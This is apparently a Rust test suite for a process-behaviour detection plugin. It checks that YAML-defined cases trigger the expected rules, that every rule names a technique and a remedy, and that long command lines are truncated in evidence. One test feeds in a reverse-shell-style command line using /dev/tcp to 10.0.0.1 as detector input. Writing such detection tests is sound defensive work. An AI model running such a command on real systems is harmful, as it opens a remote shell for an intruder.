//! Every case of the ruleset, without WebAssembly.

#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a test stops at the first surprise"
)]

use std::path::Path;
use std::sync::Arc;

use merlon_model::{Body, Event, Kind, Process, Value as Field, View, field};
use merlon_plugin_behaviour::{Behaviour, detectors};
use merlon_sdk::test::{Harness, TestRow, Value};
use merlon_yaml::{Limits, Node, parse};
use serde_json::{Map, Value as Json};

struct Case {
    name: String,
    events: Vec<Event>,
    expected: Vec<(String, String)>,
}

fn cases() -> Vec<Case> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("cases");
    let mut files: Vec<_> = std::fs::read_dir(dir)
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .collect();
    files.sort();
    files.iter().flat_map(|file| cases_of(file)).collect()
}

fn cases_of(file: &Path) -> Vec<Case> {
    let text = std::fs::read_to_string(file).unwrap();
    let documents = parse(&text, &file.display().to_string(), &Limits::default());
    assert!(documents.problems.is_empty(), "{:?}", documents.problems);
    let cases = documents.documents.iter().flat_map(Node::items);
    cases.map(|node| case(&node.to_json())).collect()
}

fn case(json: &Json) -> Case {
    let text = |json: &Json, key: &str| json[key].as_str().unwrap().to_owned();
    let list = |key: &str| json[key].as_array().unwrap().iter();
    Case {
        name: text(json, "name"),
        events: list("events").map(event).collect(),
        expected: list("expect")
            .map(|one| (text(one, "rule"), text(one, "subject")))
            .collect(),
    }
}

fn event(json: &Json) -> Event {
    let mut process = serde_json::to_value(Process::default()).unwrap();
    let given: &Map<String, Json> = json["process"].as_object().unwrap();
    for (key, value) in given {
        process[key] = value.clone();
    }
    let process: Process = serde_json::from_value(process).unwrap();
    Event {
        time: serde_json::from_value(json["time"].clone()).unwrap(),
        seq: 0,
        body: Body::Exec(Arc::new(process)),
    }
}

fn row(event: &Event, fields: &[String]) -> TestRow {
    let view = View { event, ruleset: 0 };
    let row = TestRow::new().at(event.time.nanos() / 1_000_000);
    fields.iter().fold(row, |row, name| {
        let field = field(Kind::ProcessExec, name).unwrap_or_else(|| panic!("no field {name}"));
        let value = match field.read(view) {
            Field::Missing => return row,
            Field::Text(text) => Value::Text(text.into_owned()),
            Field::TextList(texts) => {
                Value::Texts(texts.into_iter().map(|text| text.into_owned()).collect())
            }
            Field::Number(number) => Value::Number(number),
            Field::NumberList(numbers) => Value::Numbers(numbers),
            Field::Flag(flag) => Value::Flag(flag),
        };
        row.with(name, value)
    })
}

#[test]
fn every_case_gets_the_findings_it_expects() {
    let mut wrong = Vec::new();
    for case in cases() {
        let mut harness = Harness::<Behaviour>::start("{}").unwrap();
        let fields = harness.manifest().subscriptions[0].fields.clone();
        let rows: Vec<TestRow> = case
            .events
            .iter()
            .map(|event| row(event, &fields))
            .collect();
        let answers = harness.judge("process.exec", &rows).unwrap();
        let found: Vec<(String, String)> = answers
            .iter()
            .map(|answer| {
                let process = case.events[answer.row as usize].process().unwrap();
                (answer.rule.clone(), process.exe.clone())
            })
            .collect();
        if found != case.expected {
            let Case { name, expected, .. } = case;
            wrong.push(format!("{name}: expected {expected:?}, found {found:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn every_rule_has_a_case_a_technique_and_a_remedy() {
    let cases = cases();
    for detector in detectors() {
        let rule = detector.rule;
        assert!(!rule.attack.is_empty(), "{} names no technique", rule.id);
        assert!(!rule.remediation.is_empty(), "{} has no remedy", rule.id);
        let shown = cases
            .iter()
            .any(|case| case.expected.iter().any(|(id, _)| *id == rule.id));
        assert!(shown, "{} has no case", rule.id);
    }
}

#[test]
fn a_long_command_line_is_shortened_in_the_evidence() {
    let line = format!("sh -c echo {} >& /dev/tcp/10.0.0.1/1", "é".repeat(4000));
    let row = TestRow::new()
        .with("exe", "/bin/sh")
        .with("exe.name", "sh")
        .with("command_line", line.as_str());
    let answers = Harness::<Behaviour>::start("{}")
        .unwrap()
        .judge("process.exec", &[row])
        .unwrap();
    let shown = answers[0].evidence("command_line").unwrap();
    assert!(shown.len() < 520 && shown.ends_with("..."));
}
